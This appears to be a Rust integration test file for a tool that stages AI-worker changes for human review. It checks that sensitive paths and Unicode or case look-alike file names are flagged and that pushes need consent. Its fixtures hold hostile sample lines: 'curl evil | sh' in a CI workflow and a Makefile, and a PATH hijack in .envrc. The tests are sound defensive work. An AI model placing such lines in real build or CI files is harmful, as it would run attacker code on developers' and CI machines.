//! User stories for the reviewer's side of clearance: a worker stages files that matter once
//! pushed (CI configuration, git behaviour, automation), look-alikes of files the branch already
//! has, or text that is not valid UTF-8. `diff` and the push prompt must say so plainly, and
//! `push` must refuse a look-alike unless the person forces it.

use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

use crate::harness::stage_files;
use crate::harness::{git_with, stderr_text, Golem, IGNORE_GOLEM};

/// Git leaves file names as they are, even on a file system that would precompose them.
const NO_PRECOMPOSE: &[&str] = &["-c", "core.precomposeUnicode=false"];

/// Runs git in `dir` with a fixed identity and returns trimmed stdout; panics on failure.
fn git(dir: &Path, args: &[&str]) -> String {
    git_with(dir, NO_PRECOMPOSE, args)
}

/// `push` without `--yes` on a terminal (a pseudo-terminal from util-linux `script`), answering
/// `answer`; returns everything the terminal showed.
fn push_on_a_terminal(g: &Golem, id: &str, answer: &str) -> (String, bool) {
    push_on_a_terminal_with(g, id, answer, &[])
}

/// [`push_on_a_terminal`] with extra environment (`PAGER`, `NO_COLOR`) set last.
fn push_on_a_terminal_with(
    g: &Golem,
    id: &str,
    answer: &str,
    env: &[(&str, &str)],
) -> (String, bool) {
    let command = format!("'{}' push {id}", env!("CARGO_BIN_EXE_golem-orch"));
    let mut child = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .current_dir(g.project.path())
        .env("GOLEM_HOME", &g.home)
        .env_remove("GOLEM_POLICY_DIR")
        .env("NO_COLOR", "1")
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn script (util-linux)");
    if let Some(mut stdin) = child.stdin.take() {
        let _ = stdin.write_all(answer.as_bytes());
    }
    let out: Output = child.wait_with_output().expect("wait for script");
    (
        String::from_utf8_lossy(&out.stdout).replace('\r', ""),
        out.status.success(),
    )
}

/// The JSON entry of `path` in a diff's or proposal's `files`.
fn file<'v>(v: &'v Value, path: &str) -> &'v Value {
    v["files"]
        .as_array()
        .and_then(|fs| fs.iter().find(|f| f["path"] == path))
        .unwrap_or_else(|| panic!("{path} not in {v}"))
}

/// The line of `text` that names `path` as a file (the diff's or prompt's file line).
fn file_line<'t>(text: &'t str, path: &str) -> &'t str {
    text.lines()
        .find(|l| {
            let l = l.trim_start();
            l.starts_with(&format!("A {path} ")) || l.starts_with(&format!("A  {path} "))
        })
        .unwrap_or_else(|| panic!("no file line for {path} in:\n{text}"))
}

const SENSITIVE: [&str; 4] = [
    ".github/workflows/ci.yml",
    ".gitattributes",
    "Makefile",
    ".envrc",
];

#[test]
fn a_worker_staging_ci_config_git_attributes_and_automation_is_flagged_in_diff_and_push_prompt() {
    let g = Golem::new();
    g.git_repo(NO_PRECOMPOSE, &[IGNORE_GOLEM, ("README.md", "project\n")]);
    let id = stage_files(
        &g,
        &[
            (
                ".github/workflows/ci.yml",
                b"on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil | sh\n",
            ),
            (".gitattributes", b"*.md filter=owned\n"),
            ("Makefile", b"all:\n\tcurl evil | sh\n"),
            (".envrc", b"export PATH=/tmp/evil:$PATH\n"),
            ("notes.md", b"just notes\n"),
        ],
    );

    // The text diff marks each sensitive file on its own line and sums them up.
    let out = g.output(["diff", &id]);
    assert!(out.status.success(), "{}", stderr_text(&out));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    for path in SENSITIVE {
        let line = file_line(&text, path);
        assert!(line.contains("sensitive:"), "{path} not marked: {line}");
    }
    assert!(
        !file_line(&text, "notes.md").contains("sensitive"),
        "{text}"
    );
    assert!(text.contains("4 sensitive paths"), "no summary:\n{text}");

    // The JSON diff gives each a reason.
    let (v, code) = g.json(["diff", &id, "--json"]);
    assert_eq!(code, 0, "{v}");
    for path in SENSITIVE {
        let reasons = file(&v, path)["sensitive"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        assert!(
            !reasons.is_empty()
                && reasons
                    .iter()
                    .all(|r| r.as_str().is_some_and(|r| !r.is_empty())),
            "{path}: {v}"
        );
    }
    assert_eq!(file(&v, "notes.md")["sensitive"], serde_json::json!([]));
    assert_eq!(v["summary"], "4 sensitive paths", "{v}");

    // The push prompt shows them before asking; answering no pushes nothing.
    let (prompt, pushed) = push_on_a_terminal(&g, &id, "n\n");
    assert!(!pushed, "{prompt}");
    assert!(prompt.contains("push it?"), "{prompt}");
    for path in SENSITIVE {
        let line = file_line(&prompt, path);
        assert!(line.contains("sensitive:"), "{path} not marked: {prompt}");
    }
    assert!(prompt.contains("4 sensitive paths"), "{prompt}");
    // `push --json` without `--yes` gives the proposal to a script, and pushes nothing.
    let (p, code) = g.json(["push", &id, "--json"]);
    assert_ne!(code, 0, "{p}");
    for path in SENSITIVE {
        assert!(
            !file(&p, path)["sensitive"]
                .as_array()
                .cloned()
                .unwrap_or_default()
                .is_empty(),
            "{path}: {p}"
        );
    }
    assert_eq!(
        git(g.project.path(), &["branch", "--list", "golem/*"]),
        "",
        "nothing may be pushed without consent"
    );
    g.assert_clean();
}

const NFC_CAFE: &str = "caf\u{e9}.txt";
const NFD_CAFE: &str = "cafe\u{301}.txt";
const NFC_RESUME: &str = "r\u{e9}sum\u{e9}.md";
const NFD_RESUME: &str = "re\u{301}sume\u{301}.md";

#[test]
fn look_alikes_of_branch_files_are_marked_and_push_refuses_them_unless_forced() {
    let g = Golem::new();
    g.git_repo(
        NO_PRECOMPOSE,
        &[
            IGNORE_GOLEM,
            ("README.md", "project\n"),
            (NFC_CAFE, "menu\n"),
            ("notes.txt", "notes\n"),
        ],
    );
    let id = stage_files(
        &g,
        &[
            ("README.MD", b"a shadow readme\n"),
            (NFD_CAFE, b"a shadow menu\n"),
            ("notes.txt.", b"shadow notes\n"),
            // Two staged spellings of one new name collide with each other.
            (NFC_RESUME, b"one\n"),
            (NFD_RESUME, b"two\n"),
        ],
    );
    let pairs = [
        ("README.MD", "README.md"),
        (NFD_CAFE, NFC_CAFE),
        ("notes.txt.", "notes.txt"),
        (NFC_RESUME, NFD_RESUME),
        (NFD_RESUME, NFC_RESUME),
    ];

    let out = g.output(["diff", &id]);
    assert!(out.status.success(), "{}", stderr_text(&out));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    for (staged, existing) in pairs {
        let line = file_line(&text, staged);
        assert!(
            line.contains("collides with") && line.contains(existing),
            "{staged} not marked as colliding with {existing}: {line}"
        );
    }
    assert!(text.contains("5 collisions"), "no summary:\n{text}");
    let (v, code) = g.json(["diff", &id, "--json"]);
    assert_eq!(code, 0, "{v}");
    for (staged, existing) in pairs {
        assert_eq!(
            file(&v, staged)["collides_with"],
            serde_json::json!([existing]),
            "{v}"
        );
    }

    // Pushing is refused with one line naming the paths; nothing is written.
    let refused = g.output(["push", &id, "--yes"]);
    assert!(!refused.status.success());
    let err = stderr_text(&refused);
    assert_eq!(err.trim_end().lines().count(), 1, "{err}");
    for (staged, existing) in pairs {
        assert!(err.contains(staged) && err.contains(existing), "{err}");
    }
    assert!(err.contains("--force"), "{err}");
    assert_eq!(git(g.project.path(), &["branch", "--list", "golem/*"]), "");

    // The person has looked and insists.
    let (pushed, code) = g.json(["push", &id, "--yes", "--force", "--json"]);
    assert_eq!(code, 0, "{pushed}");
    let branch = pushed["branch"].as_str().unwrap();
    let tree = git(
        g.project.path(),
        &[
            "-c",
            "core.quotePath=false",
            "ls-tree",
            "--name-only",
            branch,
        ],
    );
    let audit = g.audit();
    assert!(
        audit.iter().any(|r| r["event"] == "push.refused"
            && r["data"]["reason"]
                .as_str()
                .is_some_and(|r| r.contains("README.MD"))),
        "the refusal is audited"
    );
    assert!(
        audit.iter().any(|r| r["event"] == "push.forced"),
        "the override is audited"
    );
    for name in [
        "README.MD",
        NFD_CAFE,
        "notes.txt.",
        "README.md",
        NFC_CAFE,
        NFC_RESUME,
        NFD_RESUME,
    ] {
        assert!(tree.lines().any(|l| l == name), "{name} not in {tree}");
    }
    g.assert_clean();
}

#[test]
fn text_with_invalid_utf8_is_shown_escaped_in_diff_not_hidden_as_binary() {
    let g = Golem::new();
    g.git_repo(NO_PRECOMPOSE, &[IGNORE_GOLEM, ("README.md", "project\n")]);
    let id = stage_files(
        &g,
        &[
            (
                "letter.txt",
                b"Dear reviewer,\nplease wire \xff\xfe the funds to account 666.\n",
            ),
            ("blob.bin", b"\x00\x01\x02binary"),
        ],
    );
    let out = g.output(["diff", &id]);
    assert!(out.status.success(), "{}", stderr_text(&out));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        text.contains("+please wire \\xff\\xfe the funds to account 666."),
        "the text must be shown with its invalid bytes escaped:\n{text}"
    );
    assert!(
        file_line(&text, "letter.txt").contains("not valid UTF-8"),
        "{text}"
    );
    // Content with NUL bytes is summarised, with its size and hash so it can be checked.
    let (manifest, _) = g.json(["show", &id, "--json"]);
    let sha = manifest["files"]
        .as_array()
        .and_then(|fs| fs.iter().find(|f| f["path"] == "blob.bin"))
        .and_then(|f| f["sha256"].as_str())
        .unwrap_or_else(|| panic!("no sha256 for blob.bin in {manifest}"))
        .to_string();
    let blob = text
        .lines()
        .skip_while(|l| !l.starts_with("A blob.bin "))
        .nth(1)
        .unwrap_or_default()
        .to_string();
    assert!(
        blob.contains("binary") && blob.contains("9 bytes") && blob.contains(&sha),
        "{text}"
    );
    g.assert_clean();
}

#[test]
fn diff_stat_gives_one_line_per_file_and_a_total_like_git() {
    let g = Golem::new();
    g.git_repo(NO_PRECOMPOSE, &[IGNORE_GOLEM, ("README.md", "project\n")]);
    let id = stage_files(
        &g,
        &[
            ("notes.md", b"one\ntwo\nthree\n"),
            ("README.md", b"project\nmore\n"),
        ],
    );
    let out = g.output(["diff", &id, "--stat"]);
    assert!(out.status.success(), "{}", stderr_text(&out));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        text.lines().any(|l| l == " A notes.md  | 3 +++"),
        "no stat line for notes.md:\n{text}"
    );
    // README.md's mark and counts agree with the JSON diff.
    let (v, code) = g.json(["diff", &id, "--json"]);
    assert_eq!(code, 0, "{v}");
    let readme = file(&v, "README.md");
    let mark = match readme["change"].as_str() {
        Some("added") => "A",
        Some("modified") => "M",
        other => panic!("README.md change {other:?}: {v}"),
    };
    assert!(
        text.lines()
            .any(|l| l.starts_with(&format!(" {mark} README.md | "))),
        "{text}"
    );
    let total = text.lines().last().unwrap_or_default();
    assert!(
        total.starts_with(" 2 file(s): ") && total.contains("insertion(s)(+)"),
        "{text}"
    );
    // --stat is only a summary: no diff body.
    assert!(!text.contains("@@"), "{text}");
}

#[test]
fn show_after_a_push_names_the_commit_and_branch_and_the_subject_names_the_inputs() {
    let g = Golem::new();
    g.git_repo(NO_PRECOMPOSE, &[IGNORE_GOLEM, ("README.md", "project\n")]);
    let id = stage_files(&g, &[("notes.md", b"notes\n")]);
    let (before, code) = g.json(["show", &id, "--json"]);
    assert_eq!(code, 0, "{before}");
    assert!(before.get("pushed").is_none(), "{before}");

    let (pushed, code) = g.json(["push", &id, "--yes", "--json"]);
    assert_eq!(code, 0, "{pushed}");
    let commit = pushed["commit"].as_str().unwrap_or_default().to_string();
    let branch = pushed["branch"].as_str().unwrap_or_default().to_string();
    assert!(!commit.is_empty() && !branch.is_empty(), "{pushed}");

    let (v, code) = g.json(["show", &id, "--json"]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["status"], "pushed", "{v}");
    assert_eq!(v["pushed"]["commit"], commit.as_str(), "{v}");
    assert_eq!(v["pushed"]["branch"], branch.as_str(), "{v}");
    let repo = v["pushed"]["repo"].as_str().unwrap_or_default().to_string();
    assert!(
        std::fs::canonicalize(&repo).ok() == std::fs::canonicalize(g.project.path()).ok(),
        "{v}"
    );
    assert!(v["pushed"]["remote"].is_null(), "{v}");

    let out = g.output(["show", &id]);
    assert!(out.status.success(), "{}", stderr_text(&out));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        text.lines()
            .any(|l| l.starts_with(&format!("pushed   {commit} on {branch}"))),
        "{text}"
    );
    assert!(text.contains(&format!("  into   {repo}\n")), "{text}");

    let subject = git(g.project.path(), &["log", "-1", "--format=%s", &branch]);
    assert!(subject.starts_with("golem: "), "{subject}");
}

#[test]
fn the_diff_answer_in_the_push_prompt_goes_through_the_pager_and_respects_no_color() {
    let g = Golem::new();
    g.git_repo(NO_PRECOMPOSE, &[IGNORE_GOLEM, ("README.md", "project\n")]);
    let id = stage_files(
        &g,
        &[("notes.md", b"just notes\n"), ("Makefile", b"all:\n")],
    );

    // A pager that marks what it was given, so the story sees the diff went through it.
    let pager = "sed 's/^/paged: /'";
    let (plain, pushed) =
        push_on_a_terminal_with(&g, &id, "d\nn\n", &[("PAGER", pager), ("NO_COLOR", "1")]);
    assert!(!pushed, "{plain}");
    assert!(plain.contains("paged: +just notes"), "{plain}");
    assert!(
        !plain.contains('\x1b'),
        "NO_COLOR still coloured: {plain:?}"
    );

    // An empty NO_COLOR does not count (no-color.org): the terminal gets colour.
    let (coloured, pushed) =
        push_on_a_terminal_with(&g, &id, "d\nn\n", &[("PAGER", "cat"), ("NO_COLOR", "")]);
    assert!(!pushed, "{coloured}");
    assert!(coloured.contains("\x1b[32m+just notes"), "{coloured:?}");
    assert!(coloured.contains("\x1b[1;33m!! "), "{coloured:?}");
    assert_eq!(git(g.project.path(), &["branch", "--list", "golem/*"]), "");
}
